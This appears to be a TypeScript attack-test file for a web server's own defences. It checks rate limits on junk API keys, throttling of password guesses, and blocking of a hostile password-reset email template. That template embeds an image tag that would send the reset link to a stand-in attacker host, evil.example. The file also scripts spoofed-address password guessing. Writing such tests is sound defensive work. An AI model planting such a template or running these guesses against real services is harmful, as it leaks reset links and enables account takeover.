import { setTimeout as sleep } from 'node:timers/promises';
import { newKey } from '../../apps/server/src/domain/accounts/api-keys/key-format.ts';
import { sql } from '../../apps/server/src/platform/database/sql.ts';
import { hashPassword } from '../../apps/server/src/platform/security/passwords.ts';
import { call, type Reply } from '../calls.ts';
import { type Attack, type AttackContext, countOf, faultUnless } from './attack.ts';

const PASSWORD = 'correct horse battery';
const JUNK_KEYS = 30;

/** Junk keys from the address of a client with a valid key end in 429, and the valid key still works. */
export const junkKeys: Attack = async ({ fleet, url }) => {
  const { secretKey } = await fleet.workspace();
  const headers = { 'x-forwarded-for': '198.51.110.1' };
  const read = (key: string) => call({ method: 'GET', url: `${url}/api/v1/jobs?limit=1`, key, headers });
  const junk: Reply[] = [];
  for (let n = 0; n < JUNK_KEYS; n += 1)
    junk.push(await read(n % 2 === 0 ? `rolecall_sk_live_junk${n}` : newKey('rolecall', 'secret')));
  const valid = await read(secretKey);
  return {
    figures: { 'junk keys of one address': `${countOf(junk, 401)} looked at, ${countOf(junk, 429)} not` },
    faults: [
      ...faultUnless(countOf(junk, 429) > 0, 'junk keys were never limited'),
      ...faultUnless(countOf(junk, 401) + countOf(junk, 429) === JUNK_KEYS, 'a junk key got another answer'),
      ...faultUnless(valid.status === 200, `a valid key behind that address, never seen before, got ${valid.status}`),
    ],
  };
};

const GUESSING_ADDRESSES = 3;
const GUESSES_OF_EACH = 8;

/** Attempts to guess an owner's password are slowed down, and do not lock the owner out on this address or any other. */
export const signInGuesses: Attack = async (context) => {
  const { url } = context;
  const { slug, email } = await ownerWithPassword(context);
  const signIn = (password: string, address: string, cookie = '') =>
    call({
      method: 'POST',
      url: `${url}/api/v1/session`,
      headers: { 'x-forwarded-for': address, origin: url, ...(cookie === '' ? {} : { cookie }) },
      body: { workspace: slug, email, password },
    });
  const first = await signIn(PASSWORD, '198.51.111.1');
  const cookie = cookiesOf(first);
  const guesses: Reply[] = [];
  for (let address = 0; address < GUESSING_ADDRESSES; address += 1) {
    const from = `198.51.112.${address}`;
    guesses.push(...(await Promise.all(Array.from({ length: GUESSES_OF_EACH }, (_, n) => signIn(`guess ${n}`, from)))));
  }
  const known = await signIn(PASSWORD, '198.51.112.0', cookie);
  const elsewhere = await signIn(PASSWORD, '198.51.111.2');
  return {
    figures: { "guesses at an owner's password": `${countOf(guesses, 401)} looked at of ${guesses.length}` },
    faults: [
      ...faultUnless(first.status === 201, `the owner could not sign in: ${first.status}`),
      // Each address has five attempts before it has to wait.
      ...faultUnless(
        countOf(guesses, 401) <= 5 * GUESSING_ADDRESSES,
        `${countOf(guesses, 401)} guesses were looked at`,
      ),
      ...faultUnless(!guesses.some(({ status }) => status === 201), 'a guess signed in'),
      ...faultUnless(known.status === 201, `a known browser at the address of the guesses got ${known.status}`),
      ...faultUnless(elsewhere.status === 201, `the owner at another address got ${elsewhere.status}`),
    ],
  };
};

const EMAIL_WITHIN_MS = 20_000;

/**
 * A template for password resets that sends the link to a server of the attacker's: a key cannot write one, and one that is
 * stored already is sent without anything remote.
 */
export const hostileTemplate: Attack = async (context) => {
  const { fleet, url } = context;
  const { workspace, slug, email } = await ownerWithPassword(context);
  const html = '<p>Hello</p><img src="https://evil.example/?t={{ link.url | url_encode }}">{{ link.url }}';
  const path = `${url}/api/v1/email-templates/password_reset`;
  const key = workspace.secretKey;
  const written = await call({
    method: 'PUT',
    url: path,
    key,
    body: { enabled: true, subject: 'Reset', text: 'Go: {{ link.url }}', html },
  });
  await fleet.db.write.query(sql`
    insert into mail_templates (workspace_id, kind, enabled, subject, text, html)
    values (${workspace.id}, 'password_reset', true, 'Reset', 'Go: {{ link.url }}', ${html})
    on conflict (workspace_id, kind) do update set html = excluded.html`);
  const requested = await call({
    method: 'POST',
    url: `${url}/api/v1/password-resets`,
    headers: { 'x-forwarded-for': '198.51.113.1' },
    body: { workspace: slug, email },
  });
  const sent = await resetEmail(url, key);
  return {
    figures: { 'a hostile template for password resets': `writing it answered ${written.status}` },
    faults: [
      ...faultUnless(written.status === 403, `a key wrote the template of password resets: ${written.status}`),
      ...faultUnless(requested.status < 300, `a password reset was answered ${requested.status}`),
      ...faultUnless(sent !== null, 'there is no email'),
      ...faultUnless(!(sent ?? '').includes('evil.example'), 'the email with the link loads something remote'),
    ],
  };
};

/** The latest password email in the log; null if none arrives in time. */
async function resetEmail(url: string, key: string): Promise<string | null> {
  const giveUp = performance.now() + EMAIL_WITHIN_MS;
  while (performance.now() < giveUp) {
    const list = await call({ method: 'GET', url: `${url}/api/v1/emails?kind=password_reset`, key });
    const [latest] = JSON.parse(list.text).data;
    if (latest !== undefined)
      return (await call({ method: 'GET', url: `${url}/api/v1/emails/${latest.id}`, key })).text;
    await sleep(50);
  }
  return null;
}

async function ownerWithPassword({ fleet }: AttackContext) {
  const workspace = await fleet.workspace();
  const email = `owner@${workspace.slug}.example.com`;
  await fleet.db.write.query(sql`
    update members set email = ${email}, password_hash = ${await hashPassword(PASSWORD)}, joined_at = rolecall_now()
    where workspace_id = ${workspace.id} and id = ${workspace.ownerId}`);
  return { workspace, slug: workspace.slug, email };
}

function cookiesOf({ headers }: Reply): string {
  const set: unknown = headers['set-cookie'];
  const lines = Array.isArray(set) ? set.map(String) : [];
  return lines
    .map((line) => line.split(';', 1)[0]!)
    .filter((cookie) => cookie.startsWith('rolecall_browser'))
    .join('; ');
}
